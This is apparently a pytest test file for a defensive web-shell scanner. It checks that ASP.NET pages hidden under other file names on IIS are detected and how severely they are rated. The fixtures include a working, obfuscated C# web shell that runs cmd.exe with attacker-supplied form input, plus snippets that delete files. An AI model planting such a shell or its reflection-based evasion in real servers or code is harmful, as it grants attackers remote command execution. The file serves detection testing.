"""A page's content kept under a name IIS does not run as ASP.NET (`cmd.aspx.txt`, a `.jpg` an
upload form took, a `.bak` copy): its code is read as the page its first directive says it is,
and the code rules weigh it as a copy no web server runs (their unserved tier), saying why.
Classic ASP (unless an ASP.NET directive names itself), binary files and text without server
markup are not read as pages."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from exhunt.filehunt import codehunt
from exhunt.filehunt.locations import Location, Place
from files_support import ASPNET_CLIENT, by_rule, hunt, plain_file, server_file

WWWROOT = r"C:\inetpub\wwwroot"
# Built at run time so no content rule knows it: only the code analysis can find it.
HIDDEN = (
    '<%@ Page Language="C#" %>\n<script runat="server">\n'
    "void Page_Load(object s, EventArgs e) {\n"
    '  string t = string.Concat("Sys", "tem.Diagnos", "tics.Pro", "cess");\n'
    '  var p = Type.GetType(t).GetMethod("Start", new[] { typeof(string), typeof(string) });\n'
    '  p.Invoke(null, new object[] { "cmd.exe", "/c " + Request.Form["q"] });\n'
    "}\n</script>\n"
)


def _loc(name: str) -> Location:
    return Location(f"c:/inetpub/wwwroot/{name}", Place.IIS_WEBROOT, True)


@pytest.mark.parametrize(
    ("name", "data", "as_ext"),
    [
        ("cmd.aspx.txt", b'<%@ Page Language="C#" %><% Response.Write(1); %>', ".aspx"),
        ("up.jpg", b'GIF89a\n<%@ WebHandler Language="C#" Class="H" %>\npublic class H {}', ".ashx"),
        ("svc.bak", b'<%@ WebService Language="C#" Class="S" %>', ".asmx"),
        ("x", b'<%@ Control Language="C#" %>', ".ascx"),
        ("g.old", b'<%@ Application Language="C#" %>', ".asax"),
        ("a.dat", b'<html><SCRIPT RunAt="Server">void F() {}</SCRIPT></html>', ".aspx"),
        ("gt.dat", b'<script language="C#" title="a>b" runat="server">void F() {}</script>', ".aspx"),
        ("h.txt", b'<%@  Language="C#" Class="Handler1" %>\npublic class Handler1 {}', ".ashx"),
        ("p.txt", b'<%@ Language="C#" Debug="true" %><% Response.Write(1); %>', ".aspx"),
        ("i.txt", b'<%@ Import Namespace="System.IO" %><% File.Delete(Request["f"]); %>', ".aspx"),
        ("w.txt", '<%@ Page Language="C#" %><% Response.Write(1); %>'.encode("utf-16"), ".aspx"),
        ("le.txt", '<%@ WebHandler Language="C#" Class="H" %>\npublic class H {}'.encode("utf-16-le"), ".ashx"),
        ("w32.txt", '<html><script runat="server">void F() {}</script>'.encode("utf-32"), ".aspx"),
        # Classic ASP's names holding ASP.NET's own directives: an ASP.NET page kept as `.asp`.
        ("up.asp", b'<%@ Page Language="C#" %><% Response.Write(1); %>', ".aspx"),
        ("x.cer", b'<%@ WebHandler Language="C#" Class="H" %>\npublic class H {}', ".ashx"),
        ("i.inc", b'<%@ Import Namespace="System.IO" %><% File.Delete(Request["f"]); %>', ".aspx"),
    ],
)
def test_a_page_under_another_name_is_read_as_its_directive_says(name: str, data: bytes, as_ext: str) -> None:
    page = codehunt.read_as(_loc(name), data)
    assert page is not None
    assert page.extension == as_ext
    assert page.place is Place.IIS_WEBROOT


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.aspx", b'<%@ Page Language="C#" %>'),  # a page's own name: read as it is
        ("a.cs", b'<%@ Page Language="C#" %>'),
        ("old.asp", b'<%@ Language="VBScript" %><script runat="server" language="vbscript"></script>'),
        ("js.asp", b'<%@ LANGUAGE="JScript" CODEPAGE="65001" %><% Response.Write(1) %>'),
        ("glob.asa", b'<script language="VBScript" runat="Server">Sub Session_OnStart\nEnd Sub</script>'),
        ("later.asp", b'<%@ Language="VBScript" %>\n<%@ Page Language="C#" %>'),  # its first directive is classic ASP's
        ("a.inc", b"<% Response.Write(1) %>"),
        ("lib.dll", b"MZ\x90\x00\x03\x00\x00\x00" + b'<%@ Page Language="C#" %>'),
        ("logo.png", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b'<%@ Page Language="C#" %>'),
        ("readme.txt", b"Open the page and type a command; the server runs it."),
        ("notes.txt", b"<% not a directive %> and no script block"),
        ("client.htm", b'<script src="a.js"></script><p>runat="server" is how a control is declared</p>'),
    ],
)
def test_other_files_are_not_read_as_pages(name: str, data: bytes) -> None:
    assert codehunt.read_as(_loc(name), data) is None


def test_without_hyperscan_the_same_files_are_pages(monkeypatch: pytest.MonkeyPatch) -> None:
    samples = [
        b"<%@ page %>",
        b"<x RUNAT=server>",
        b"<script runat='server'></script>",
        b"plain text",
        "<SCRIPT RunAt='Server'></SCRIPT>".encode("utf-16-le"),
        "<%@ Page %>".encode("utf-32"),
    ]
    with_hyperscan = [codehunt.read_as(_loc("a.txt"), s) is not None for s in samples]
    monkeypatch.setattr(codehunt, "_markup_database", lambda: None)
    assert [codehunt.read_as(_loc("a.txt"), s) is not None for s in samples] == with_hyperscan
    assert with_hyperscan == [True, False, True, False, True, True]


def test_a_renamed_shell_is_found_one_tier_lower_and_says_why(tmp_path: Path) -> None:
    served = by_rule(hunt(server_file(tmp_path, WWWROOT + r"\cmd.aspx", HIDDEN.encode())))
    kept = by_rule(hunt(server_file(tmp_path, WWWROOT + r"\cmd.aspx.txt", HIDDEN.encode())))
    assert "EXH-WS-CODE-PROCESS" in served and "EXH-WS-CODE-PROCESS" in kept
    assert served["EXH-WS-CODE-PROCESS"].severity.name == "CRITICAL"
    finding = kept["EXH-WS-CODE-PROCESS"]
    details = dict(finding.details)
    assert finding.severity.name == "HIGH"
    assert "no web server runs as a page" in details["weight"]
    assert details["read_as"].startswith("a .aspx page")
    assert "runs it as a command" in details["chain"]


def test_a_renamed_trigger_in_aspnet_client_keeps_the_raised_weight(tmp_path: Path) -> None:
    # Where no custom server code belongs at all, a page's code under any name is raised as before.
    trigger = b'<%@ Page Language="C#" %><% new Contoso.Sync.Agent("k7").Run(Context); %>'
    found = by_rule(hunt(server_file(tmp_path, ASPNET_CLIENT + r"\sync.aspx.bak", trigger)))
    assert found["EXH-WS-CODE-PLANTED-DLL"].severity.name == "HIGH"
    assert "raised" in dict(found["EXH-WS-CODE-PLANTED-DLL"].details)["weight"]


def test_in_a_plain_folder_a_renamed_page_keeps_its_weight(tmp_path: Path) -> None:
    # Collected files are often renamed by whoever collected them (`x.aspx.txt`, `x.aspx_`):
    # without the server's own path, the name says nothing of what the server ran.
    found = by_rule(hunt(plain_file(tmp_path, "samples/cmd.aspx_", HIDDEN.encode())))
    finding = found["EXH-WS-CODE-PROCESS"]
    assert finding.severity.name == "CRITICAL"
    details = dict(finding.details)
    assert details["read_as"].startswith("a .aspx page") and "weight" not in details


def test_an_aspnet_shell_kept_as_classic_asp_is_found(tmp_path: Path) -> None:
    # In a folder of collected files at full weight; on the server one tier lower (asp.dll, not
    # ASP.NET, would run it there).
    found = by_rule(hunt(plain_file(tmp_path, "samples/cmd.asp", HIDDEN.encode())))
    assert found["EXH-WS-CODE-PROCESS"].severity.name == "CRITICAL"
    assert dict(found["EXH-WS-CODE-PROCESS"].details)["read_as"].startswith("a .aspx page")
    kept = by_rule(hunt(server_file(tmp_path, WWWROOT + r"\up\cmd.cer", HIDDEN.encode())))
    assert kept["EXH-WS-CODE-PROCESS"].severity.name == "HIGH"


def test_code_analysis_off_reads_no_renamed_page(tmp_path: Path) -> None:
    found = by_rule(
        hunt(server_file(tmp_path, WWWROOT + r"\cmd.aspx.txt", HIDDEN.encode()), settings={"code_analysis": False})
    )
    assert not any(rule_id.startswith("EXH-WS-CODE-") for rule_id in found)


def test_many_open_script_tags_are_looked_at_once() -> None:
    # No look for a server script passes a `<`: tens of thousands of tags, quoted values left
    # open or not, cost one pass (generous bound; a look that ran to the end from each would not).
    for head in (b'<script "x" ', b'<script a="', b"<script title='a>b' "):
        data = b"runat " + head * 20_000
        started = time.perf_counter()
        assert codehunt.read_as(_loc("many.txt"), data) is None
        assert time.perf_counter() - started < 10.0
